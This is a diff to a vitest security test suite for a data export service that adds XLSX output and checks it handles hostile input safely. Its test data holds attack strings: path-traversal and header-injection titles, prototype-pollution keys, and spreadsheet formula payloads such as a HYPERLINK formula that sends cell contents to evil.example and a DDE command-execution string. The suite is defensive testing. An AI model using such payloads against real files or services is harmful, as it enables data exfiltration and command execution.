@@ -5,6 +5,7 @@ import { pathToFileURL } from 'node:url';
 import { setFlagsFromString } from 'node:v8';
 import { runInNewContext } from 'node:vm';
 import { Worker } from 'node:worker_threads';
+import { type ReadWorkbook, readXlsx, values, xlsxParts } from '@org/test-xlsx';
 import { parse } from 'csv-parse/sync';
 import { afterAll, describe, expect, it } from 'vitest';
 import type { ExecutorApp } from '../../src/app.js';
@@ -18,7 +19,7 @@ import { type JobView, jobFolders, ndjsonOf, waitForJobStatus } from '../job-hel
  * field or line, or a 200/202 whose output is checked to be safe.
  */
 
-type Format = 'csv' | 'pdf';
+type Format = 'csv' | 'pdf' | 'xlsx';
 type Route = 'run' | 'stream' | 'jobs' | 'stream-ndjson' | 'jobs-ndjson';
 
 const jsonRoutes = ['run', 'stream', 'jobs'] as const;
@@ -33,7 +34,7 @@ const urlOf: Record<Route, string> = {
 };
 const ndjson = { 'content-type': 'application/x-ndjson' };
 const json = { 'content-type': 'application/json' };
-const safeDisposition = /^attachment; filename="export-[0-9a-f-]{36}\.(csv|pdf)"$/;
+const safeDisposition = /^attachment; filename="export-[0-9a-f-]{36}\.(csv|pdf|xlsx)"$/;
 
 afterAll(() => {
   // Whatever the bodies held, no object anywhere gained a property.
@@ -112,6 +113,42 @@ function expectError(answer: { statusCode: number; body: string }, status: numbe
 /** The CSV's rows, BOM removed, as a spreadsheet would split them. */
 function csvRows(file: Buffer): string[][] {
   return parse(file, { bom: true, relax_column_count: true });
+}
+
+/**
+ * The workbook as openpyxl reads it, once every part of its zip is found well-formed XML: a
+ * workbook a spreadsheet would refuse fails here.
+ */
+async function readWorkbook(file: Buffer): Promise<ReadWorkbook> {
+  const workbook = await readXlsx(file);
+  const verdicts = Object.values(workbook.parts);
+  expect(verdicts.length).toBeGreaterThan(5);
+  expect(new Set(verdicts)).toEqual(new Set(['well-formed']));
+  return workbook;
+}
+
+/** The cells of the workbook's first sheet, as openpyxl reads them. */
+async function xlsxRows(file: Buffer): Promise<unknown[][]> {
+  return values((await readWorkbook(file)).sheets[0]);
+}
+
+/**
+ * Text as openpyxl 3.0 gives it back from a workbook: the characters XML cannot hold stay
+ * Excel's `_xHHHH_` escapes, which a spreadsheet decodes.
+ */
+// A document property is plain XML text, which no reader decodes `_xHHHH_` in: its controls
+// are written as spaces, as in a PDF's title.
+function asPropertyReadsIt(text: string): string {
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: the controls are what it finds
+  return text.replace(/[\0-\x08\x0B\x0C\x0E-\x1F]/g, ' ');
+}
+
+function asOpenpyxlReadsIt(text: string): string {
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: the controls are what it finds
+  return text.replace(/[\0-\x08\x0B\x0C\x0E-\x1F]/g, (character) => {
+    const unit = character.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0');
+    return `_x${unit}_`;
+  });
 }
 
 interface PdfReading {
@@ -297,7 +334,7 @@ describe('hostile input', () => {
       }
     }
     const queries: Array<[string, RegExp]> = [
-      ['', /querystring\/format must be csv or pdf/],
+      ['', /querystring\/format must be one of csv, pdf, xlsx for an NDJSON upload/],
       ['format=xls', /querystring\/format /],
       ['format=csv&format=pdf', /querystring\/format /],
       ['format=csv&csvProfile=word', /querystring\/csvProfile /],
@@ -345,31 +382,35 @@ describe('hostile input', () => {
       { id: 2, big: 'small' },
     ];
     const observations: string[] = [];
-    for (const route of allRoutes) {
-      const measured = await measure(() =>
-        exportThrough(app, exportDirectory, route, records, { format: 'csv' }),
-      );
-      const answer = measured.value;
-      observations.push(
-        `${route}: ${answer.statusCode}, ${measured.ms} ms, +${measured.peakRssGrowthMb} MB RSS, event loop blocked up to ${measured.maxEventLoopDelayMs} ms`,
-      );
-      expect(measured.ms).toBeLessThan(30_000);
-      expect(measured.peakRssGrowthMb).toBeLessThan(768);
-      expect(measured.maxEventLoopDelayMs).toBeLessThan(5_000);
-      // A worker never has to parse far more than 1 MiB at once: one allocation far past its
-      // heap cap would end the whole process, which the cap cannot catch.
-      if (route.endsWith('ndjson')) {
-        const error = expectError(answer, 413, 'EXPORT_LINE_TOO_LONG');
-        expect(error.message).toBe('line 1 is longer than 1048576 bytes (option `maxLineBytes`)');
-      } else {
-        const error = expectError(answer, 413, 'EXECUTOR_RECORD_TOO_LARGE');
-        expect(error.message).toMatch(/^body\/data\/0 is longer than 1048576 bytes/);
+    // The limit is the routes' and the reader's, before any writer: a workbook is refused alike.
+    for (const format of ['csv', 'xlsx'] as const) {
+      for (const route of allRoutes) {
+        const measured = await measure(() =>
+          exportThrough(app, exportDirectory, route, records, { format }),
+        );
+        const answer = measured.value;
+        observations.push(
+          `${format} ${route}: ${answer.statusCode}, ${measured.ms} ms, +${measured.peakRssGrowthMb} MB RSS, event loop blocked up to ${measured.maxEventLoopDelayMs} ms`,
+        );
+        expect(measured.ms).toBeLessThan(30_000);
+        expect(measured.peakRssGrowthMb).toBeLessThan(768);
+        expect(measured.maxEventLoopDelayMs).toBeLessThan(5_000);
+        // A worker never has to parse far more than 1 MiB at once: one allocation far past its
+        // heap cap would end the whole process, which the cap cannot catch.
+        if (route.endsWith('ndjson')) {
+          const error = expectError(answer, 413, 'EXPORT_LINE_TOO_LONG');
+          expect(error.message).toBe('line 1 is longer than 1048576 bytes (option `maxLineBytes`)');
+        } else {
+          const error = expectError(answer, 413, 'EXECUTOR_RECORD_TOO_LARGE');
+          expect(error.message).toMatch(/^body\/data\/0 is longer than 1048576 bytes/);
+        }
       }
     }
+    expect(await jobFolders(exportDirectory)).toEqual([]);
     console.info(`10 MB cell:\n${observations.join('\n')}`);
   });
 
-  it('exports a 600 KB cell whole in CSV and cut in PDF, in bounded time and memory', async () => {
+  it('exports a 600 KB cell whole in CSV, cut in PDF and cut to 32,767 characters in XLSX, in bounded time and memory', async () => {
     const { app, exportDirectory } = await buildTestAppWithFolder();
     // Mixed text, so both CSV quoting and PDF glyph lookup do real work.
     const unit = 'ab,"c"\nŞü📈 =x;';
@@ -379,8 +420,12 @@ describe('hostile input', () => {
       { id: 1, big },
       { id: 2, big: 'small' },
     ];
+    // What an XLSX cell holds: Excel's 32,767 characters, the last one "…", no half emoji.
+    let cutAt = 32_767 - 1;
+    if (/[\uD800-\uDBFF]/.test(big.charAt(cutAt - 1))) cutAt -= 1;
+    const xlsxCell = `${big.slice(0, cutAt)}…`;
     const observations: string[] = [];
-    for (const format of ['csv', 'pdf'] as const) {
+    for (const format of ['csv', 'pdf', 'xlsx'] as const) {
       for (const route of allRoutes) {
         const measured = await measure(() =>
           exportThrough(app, exportDirectory, route, records, { format, csvProfile: 'rfc4180' }),
@@ -398,6 +443,14 @@ describe('hostile input', () => {
           const rows = csvRows(file);
           expect(rows[1]?.[1]).toBe(big);
           expect(rows[2]).toEqual(['2', 'small']);
+        } else if (format === 'xlsx') {
+          // Cut to what a sheet's cell holds, so the file stays small too.
+          expect(file.length).toBeLessThan(200_000);
+          const rows = await xlsxRows(file);
+          expect(rows[0]).toEqual(['id', 'big']);
+          expect(rows[1]).toEqual([1, xlsxCell]);
+          expect(rows[1]?.[1]).toHaveLength(32_767);
+          expect(rows[2]).toEqual([2, 'small']);
         } else {
           // A PDF cell never grows past its column: the cell is cut with "…", the file small.
           expect(file.length).toBeLessThan(200_000);
@@ -416,7 +469,7 @@ describe('hostile input', () => {
     const keys = Array.from({ length: 5_000 }, (_, index) => `column${index}`);
     const record = Object.fromEntries(keys.map((key, index) => [key, `v${index}`]));
     const observations: string[] = [];
-    for (const format of ['csv', 'pdf'] as const) {
+    for (const format of ['csv', 'pdf', 'xlsx'] as const) {
       for (const route of allRoutes) {
         const measured = await measure(() =>
           exportThrough(app, exportDirectory, route, [record, record], { format }),
@@ -433,6 +486,15 @@ describe('hostile input', () => {
           expect(rows).toHaveLength(3);
           expect(rows[0]).toEqual(keys);
           expect(rows[2]?.[4_999]).toBe('v4999');
+        } else if (format === 'xlsx') {
+          // A sheet holds 16,384 columns: all 5,000 are there, A to GJH.
+          expect(answer.statusCode, answer.body).toBeLessThan(300);
+          const workbook = await readWorkbook(answer.file as Buffer);
+          const rows = values(workbook.sheets[0]);
+          expect(rows).toHaveLength(3);
+          expect(rows[0]).toEqual(keys);
+          expect(rows[2]?.[4_999]).toBe('v4999');
+          expect(workbook.sheets[0]?.autoFilter).toBe('A1:GJH3');
         } else {
           // 5,000 columns cannot fit a page: refused, naming how many would, never a blank table.
           expect(expectError(answer, 400, 'EXPORT_TABLE_TOO_WIDE').message).toMatch(
@@ -474,7 +536,7 @@ describe('hostile input', () => {
     for (const nested of [arrays, objects]) {
       // The record is 1 deep, so its `deep` value may nest 63 more: exported as JSON text.
       const fits = JSON.parse(nested(63));
-      for (const format of ['csv', 'pdf'] as const) {
+      for (const format of ['csv', 'pdf', 'xlsx'] as const) {
         for (const route of allRoutes) {
           const answer = await exportThrough(app, exportDirectory, route, [{ id: 1, deep: fits }], {
             format,
@@ -483,27 +545,35 @@ describe('hostile input', () => {
           if (format === 'csv') {
             // Quotes doubled, as CSV writes them.
             expect(answer.file?.toString()).toContain(JSON.stringify(fits).replaceAll('"', '""'));
+          } else if (format === 'xlsx') {
+            // One text cell of the JSON, as sent.
+            expect(await xlsxRows(answer.file as Buffer)).toEqual([
+              ['id', 'deep'],
+              [1, JSON.stringify(fits)],
+            ]);
           }
         }
       }
       keptJobs = (await jobFolders(exportDirectory)).sort();
       for (const levels of [64, 100_000]) {
-        for (const route of allRoutes) {
-          const isNdjson = route.endsWith('ndjson');
-          const response = await app.inject({
-            method: 'POST',
-            url: isNdjson ? `${urlOf[route]}?format=csv` : urlOf[route],
-            headers: isNdjson ? ndjson : json,
-            body: isNdjson
-              ? `{"id":1,"deep":null}\n{"id":2,"deep":${nested(levels)}}\n`
-              : `{"format":"csv","data":[{"id":1,"deep":null},{"id":2,"deep":${nested(levels)}}]}`,
-          });
-          const error = expectError(response, 400, 'EXPORT_INVALID_RECORD');
-          expect(error.message).toBe(
-            isNdjson
-              ? 'line 2 is nested deeper than 64 levels (option `maxDepth`)'
-              : 'record 1 is nested deeper than 64 levels (option `maxDepth`)',
-          );
+        for (const format of ['csv', 'xlsx'] as const) {
+          for (const route of allRoutes) {
+            const isNdjson = route.endsWith('ndjson');
+            const response = await app.inject({
+              method: 'POST',
+              url: isNdjson ? `${urlOf[route]}?format=${format}` : urlOf[route],
+              headers: isNdjson ? ndjson : json,
+              body: isNdjson
+                ? `{"id":1,"deep":null}\n{"id":2,"deep":${nested(levels)}}\n`
+                : `{"format":"${format}","data":[{"id":1,"deep":null},{"id":2,"deep":${nested(levels)}}]}`,
+            });
+            const error = expectError(response, 400, 'EXPORT_INVALID_RECORD');
+            expect(error.message).toBe(
+              isNdjson
+                ? 'line 2 is nested deeper than 64 levels (option `maxDepth`)'
+                : 'record 1 is nested deeper than 64 levels (option `maxDepth`)',
+            );
+          }
         }
       }
       // Deep where a string is expected: refused by the same limit, with where it is.
@@ -534,7 +604,7 @@ describe('hostile input', () => {
     expect(after.statusCode).toBe(200);
   });
 
-  it('answers invalid UTF-8 with 400 naming the byte, drops NUL from CSV, and answers a raw NUL with 400 naming the line', async () => {
+  it('answers invalid UTF-8 with 400 naming the byte, drops NUL from CSV, escapes it in XLSX, and answers a raw NUL with 400 naming the line', async () => {
     const { app, exportDirectory } = await buildTestAppWithFolder();
     const invalidBytes = [
       [0xff],
@@ -548,15 +618,17 @@ describe('hostile input', () => {
       Buffer.concat([Buffer.from('{"id":1,"name":"a'), Buffer.from(bytes), Buffer.from('b"}\n')]);
     for (const route of ndjsonRoutes) {
       for (const bytes of invalidBytes) {
-        const answer = await exportThrough(app, exportDirectory, route, line(bytes), {
-          format: 'csv',
-          csvProfile: 'rfc4180',
-        });
-        // Never read as U+FFFD, which would export something that was not sent: the first bad
-        // byte is named (17 bytes of `{"id":1,"name":"a` come before it).
-        expect(expectError(answer, 400, 'EXPORT_INVALID_UTF8').message).toMatch(
-          /^line 1 is not valid UTF-8: byte 17 /,
-        );
+        for (const format of ['csv', 'xlsx'] as const) {
+          const answer = await exportThrough(app, exportDirectory, route, line(bytes), {
+            format,
+            csvProfile: 'rfc4180',
+          });
+          // Never read as U+FFFD, which would export something that was not sent: the first bad
+          // byte is named (17 bytes of `{"id":1,"name":"a` come before it).
+          expect(expectError(answer, 400, 'EXPORT_INVALID_UTF8').message).toMatch(
+            /^line 1 is not valid UTF-8: byte 17 /,
+          );
+        }
       }
       // An escaped NUL is a character of the value: CSV drops it (fast-csv cannot write it).
       const escaped = await exportThrough(app, exportDirectory, route, '{"a":"x\\u0000y"}\n', {
@@ -574,6 +646,19 @@ describe('hostile input', () => {
       );
       expect(pdf.statusCode).toBeLessThan(300);
       expect((await pdfText(pdf.file as Buffer)).text).toContain('x y z');
+      // A workbook keeps them as Excel's escapes, which a spreadsheet decodes, and stays valid.
+      const xlsx = await exportThrough(
+        app,
+        exportDirectory,
+        route,
+        Buffer.from('{"a":"x\\u0000y\\u0007z","b":"é"}\n'),
+        { format: 'xlsx' },
+      );
+      expect(xlsx.statusCode).toBeLessThan(300);
+      expect(await xlsxRows(xlsx.file as Buffer)).toEqual([
+        ['a', 'b'],
+        ['x_x0000_y_x0007_z', 'é'],
+      ]);
       // A raw NUL byte (or any raw control character) is not JSON: the line is named.
       for (const [body, lineNumber] of [
         ['{"a":1}\n{"a":2}\n{"a":"x\u0000y"}\n', 3],
@@ -581,7 +666,7 @@ describe('hostile input', () => {
         ['{"a":1}\u0000\n', 1],
         ['\n\n{"a":"\u0001"}\n', 3],
       ] as const) {
-        for (const format of ['csv', 'pdf'] as const) {
+        for (const format of ['csv', 'pdf', 'xlsx'] as const) {
           const response = await app.inject({
             method: 'POST',
             url: `${urlOf[route]}?format=${format}`,
@@ -674,6 +759,11 @@ describe('hostile input', () => {
       ]);
       const pdf = await exportThrough(app, exportDirectory, route, records, { format: 'pdf' });
       expect((await pdfText(pdf.file as Buffer)).text).toContain('__proto__');
+      const xlsx = await exportThrough(app, exportDirectory, route, records, { format: 'xlsx' });
+      expect(await xlsxRows(xlsx.file as Buffer)).toEqual([
+        ['__proto__', 'constructor', 'a'],
+        ['{"polluted":true}', '{"prototype":{"polluted":true}}', 1],
+      ]);
     }
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
     expect(Object.keys(Object.prototype)).toEqual([]);
@@ -740,12 +830,18 @@ describe('hostile input', () => {
       payload: { format: 'pdf', data: [{ a: 1 }], title: '../../etc/passwd', user: '..\\..\\x' },
     });
     expect(run.json().result.filename).toMatch(/^[0-9a-f-]{36}\.pdf$/);
+    const workbook = await app.inject({
+      method: 'POST',
+      url: '/export/run',
+      payload: { format: 'xlsx', data: [{ a: 1 }], title: '../../etc/passwd', user: '..\\..\\x' },
+    });
+    expect(workbook.json().result.filename).toMatch(/^[0-9a-f-]{36}\.xlsx$/);
     expect((await readdir(exportDirectory)).sort()).toEqual(
-      [run.json().result.filename, 'jobs'].sort(),
+      [run.json().result.filename, workbook.json().result.filename, 'jobs'].sort(),
     );
   });
 
-  it('keeps Content-Disposition one safe ASCII line whatever the title, and the PDF renders it', async () => {
+  it('keeps Content-Disposition one safe ASCII line whatever the title, the PDF renders it and the workbook holds it', async () => {
     const { app, exportDirectory } = await buildTestAppWithFolder();
     const titles = [
       'Trades\r\nSet-Cookie: stolen=1',
@@ -756,7 +852,7 @@ describe('hostile input', () => {
       '\r\n\r\nHTTP/1.1 200 OK',
     ];
     for (const title of titles) {
-      for (const format of ['csv', 'pdf'] as const) {
+      for (const format of ['csv', 'pdf', 'xlsx'] as const) {
         for (const route of ['stream', 'jobs', 'stream-ndjson', 'jobs-ndjson'] as const) {
           const answer = await exportThrough(app, exportDirectory, route, [{ a: 1 }], {
             format,
@@ -765,6 +861,14 @@ describe('hostile input', () => {
           expect(answer.statusCode, answer.body).toBeLessThan(300);
           expect(answer.disposition).toMatch(safeDisposition);
           expect(answer.disposition).toMatch(/^[\x20-\x7e]+$/);
+          expect(answer.disposition?.endsWith(`.${format}"`)).toBe(true);
+          if (format === 'xlsx') {
+            // The title is the document's, in its own part: every part still well-formed, the
+            // sheet untouched, and the title whole (CR and LF too) but for its controls.
+            const workbook = await readWorkbook(answer.file as Buffer);
+            expect(workbook.title).toBe(asPropertyReadsIt(title));
+            expect(values(workbook.sheets[0])).toEqual([['a'], [1]]);
+          }
           if (format !== 'pdf') continue;
           const pdf = await pdfText(answer.file as Buffer);
           expect(pdf.pages).toBe(1);
@@ -783,6 +887,21 @@ describe('hostile input', () => {
       title: titles[0] as string,
     });
     expect(job.disposition).toMatch(safeDisposition);
+    // A workbook's download, asked with HEAD: the same safe name, and the workbook's media type.
+    const submitted = await app.inject({
+      method: 'POST',
+      url: '/export/jobs',
+      payload: { format: 'xlsx', data: [{ a: 1 }], title: titles[0] },
+    });
+    expect(submitted.statusCode, submitted.body).toBe(202);
+    const done = await waitForJobStatus(app, submitted.json<JobView>().id, ['done']);
+    const head = await app.inject({ method: 'HEAD', url: done.links.download });
+    expect(head.statusCode).toBe(200);
+    expect(head.headers['content-disposition']).toMatch(safeDisposition);
+    expect(head.headers['content-disposition']).toMatch(/\.xlsx"$/);
+    expect(head.headers['content-type']).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    );
   });
 
   it('neutralizes formula payloads in CSV cells and headers in the excel profile (the default), and rfc4180 writes them as sent', async () => {
@@ -843,10 +962,55 @@ describe('hostile input', () => {
     }
   });
 
+  it('writes formula payloads in XLSX cells and headers as text cells, never a formula, on every route', async () => {
+    const { app, exportDirectory } = await buildTestAppWithFolder();
+    // No profile and no quote to add: a cell is a formula only if it has an <f>, which the
+    // writer never makes, so the payload is kept as it was sent (escapes aside).
+    const payloads = [
+      '=1+1',
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '+SUM(A1:A9)',
+      '-2+3',
+      '@SUM(A1)',
+      "=cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '\u0000=1+1',
+    ];
+    const records = payloads.map((payload, index) => ({ id: index, payload, number: -index }));
+    const columns = ['id', 'payload', 'number', '=header'];
+    for (const route of allRoutes) {
+      const answer = await exportThrough(app, exportDirectory, route, records, {
+        format: 'xlsx',
+        columns: route.endsWith('ndjson') ? columns.join(',') : columns,
+      });
+      expect(answer.statusCode, answer.body).toBeLessThan(300);
+      const file = answer.file as Buffer;
+      const sheet = xlsxParts(file)['xl/worksheets/sheet1.xml'] ?? '';
+      expect(sheet).toContain('<sheetData>');
+      expect(sheet).not.toMatch(/<f[ >]/);
+      // Every payload and header a text cell; the numbers number cells, negative ones too.
+      const workbook = await readWorkbook(file);
+      const rows = workbook.sheets[0]?.rows ?? [];
+      expect(rows[0]?.map((cell) => cell.value)).toEqual(columns);
+      expect(rows[0]?.map((cell) => cell.type)).toEqual(['str', 'str', 'str', 'str']);
+      for (const [index, row] of rows.slice(1).entries()) {
+        expect(row.map((cell) => cell.type)).toEqual(['int', 'str', 'int', 'NoneType']);
+        expect(row.map((cell) => cell.value)).toEqual([
+          index,
+          asOpenpyxlReadsIt(payloads[index] as string),
+          index === 0 ? 0 : -index,
+          null,
+        ]);
+      }
+      expect(rows).toHaveLength(payloads.length + 1);
+    }
+  });
+
   it('refuses a 100,000-character title (and user) with 400 naming the field and the limit', async () => {
     const { app, exportDirectory } = await buildTestAppWithFolder();
     const title = 'T'.repeat(100_000);
-    for (const format of ['csv', 'pdf'] as const) {
+    for (const format of ['csv', 'pdf', 'xlsx'] as const) {
       for (const route of jsonRoutes) {
         const tooLong = await app.inject({
           method: 'POST',
